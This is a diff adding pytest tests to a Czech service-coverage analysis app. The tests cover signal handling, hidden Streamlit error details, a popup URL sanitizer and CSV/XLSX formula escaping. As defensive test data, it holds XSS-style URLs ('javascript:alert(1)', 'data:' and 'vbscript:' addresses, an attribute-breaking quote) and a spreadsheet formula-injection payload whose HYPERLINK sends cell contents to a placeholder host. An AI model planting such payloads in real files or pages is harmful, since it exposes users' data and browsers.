@@ -371,3 +371,92 @@ def test_demo_starts_on_a_machine_where_streamlit_never_ran(tmp_path):
         finally:
             os.killpg(proc.pid, signal.SIGTERM)
             proc.wait(timeout=20)
+
+
+@pytest.mark.parametrize("sig", ["SIGTERM", "SIGINT"])
+def test_a_signal_during_analyze_leaves_no_folder_behind(tmp_path, sig):
+    """Killed while it writes, ``analyze`` leaves neither a hidden temporary folder nor a half output."""
+    import signal
+    import time
+
+    out = tmp_path / "vysledky"
+    proc = subprocess.Popen([sys.executable, "-m", "coverage_app.cli", "analyze", "--demo", "--district",
+                             "ORP:6221", "--out", str(out)], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
+    deadline = time.monotonic() + 120
+    while time.monotonic() < deadline and proc.poll() is None:
+        if any(p.name.startswith(".vysledky.") for p in tmp_path.iterdir()):
+            proc.send_signal(getattr(signal, sig))
+            break
+        time.sleep(0.002)
+    else:
+        pytest.skip("the analysis finished before its outputs could be interrupted")
+    proc.wait(timeout=60)
+    assert proc.returncode != 0
+    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".vysledky.")]
+    assert not out.exists() or sorted(p.name for p in out.iterdir())  # never an empty or partial folder
+    if out.exists():  # the signal came after the last file moved: then everything is there
+        assert {"gaps.csv", "coverage.csv", "report.xlsx"} <= {p.name for p in out.iterdir()}
+
+
+def test_app_shows_visitors_no_error_details(monkeypatch):
+    """The app is started with Streamlit's error details off: a fault shows no traceback or path."""
+    from coverage_app.cli import app_cmds
+
+    seen = {}
+
+    def fake_call(cmd, env=None, stdin=None):
+        seen["cmd"], seen["env"] = cmd, env
+        return 0
+
+    monkeypatch.setattr(app_cmds.subprocess, "call", fake_call)
+    monkeypatch.delenv("STREAMLIT_CLIENT_SHOW_ERROR_DETAILS", raising=False)
+    with pytest.raises(SystemExit):
+        app_cmds._run_streamlit({}, "127.0.0.1", 8765, headless=True)
+    assert seen["env"]["STREAMLIT_CLIENT_SHOW_ERROR_DETAILS"] == "none"
+    assert "--global.developmentMode" in seen["cmd"]
+
+
+def test_only_web_addresses_become_links_in_map_popups():
+    """A ``javascript:`` (or any other) address in the ``web`` field stays text in the popups."""
+    import json
+    import shutil
+
+    from coverage_app.maps.interactive import asset_files
+
+    node = shutil.which("node")
+    if node is None:
+        pytest.skip("node is not installed")
+    js = asset_files()["coverage_map.js"].read_text(encoding="utf-8")
+    start = js.index("function safeUrl(u)")
+    body = js[start:js.index("\n  }\n", start) + 4]
+    cases = {"https://example.org/a": "https://example.org/a", "www.obec.cz": "https://www.obec.cz",
+             "javascript:alert(1)": "", "JaVaScRiPt:alert(1)": "", "data:text/html,<b>": "",
+             'https://a" onmouseover="x': "", "vbscript:x": ""}
+    script = body + f"\nconst c = {json.dumps(list(cases))};\nconsole.log(JSON.stringify(c.map(safeUrl)));"
+    out = subprocess.run([node, "-e", script], capture_output=True, text=True, check=True).stdout
+    assert json.loads(out) == list(cases.values())
+
+
+def test_formula_like_names_are_text_in_csv_and_xlsx(tmp_path, capsys):
+    """``=HYPERLINK(…)``, ``@SUM`` or ``+…`` in a name never become live formulas (OWASP)."""
+    import openpyxl
+
+    from coverage_app.demo import demo_paths
+
+    evil = '=HYPERLINK("http://x.example/?"&A2,"klikni")'
+    src = tmp_path / "sluzby.csv"
+    src.write_text("id_sluzby,nazev_sluzby,poskytovatel,druh,forma,kapacita,jednotka_kapacity,kod_obce,lat,lon\n"
+                   f'S1,"{evil.replace(chr(34), chr(34) * 2)}",@SUM(A1),DruhSocialniSluzby/10,amb,20,klient,584282,'
+                   "49.04,16.62\n", encoding="utf-8")
+    out = tmp_path / "out"
+    code, _, err = run(capsys, "analyze", "--municipalities", str(demo_paths()["municipalities"]),
+                       "--services", str(src), "--district", "ORP:6221", "--out", str(out))
+    assert code == 0, err
+    cov = pd.read_csv(out / "coverage.csv", dtype=str)
+    names = set(cov["nearest_site_name"].dropna())
+    assert "'" + evil in names and evil not in names
+    wb = openpyxl.load_workbook(out / "report.xlsx")
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
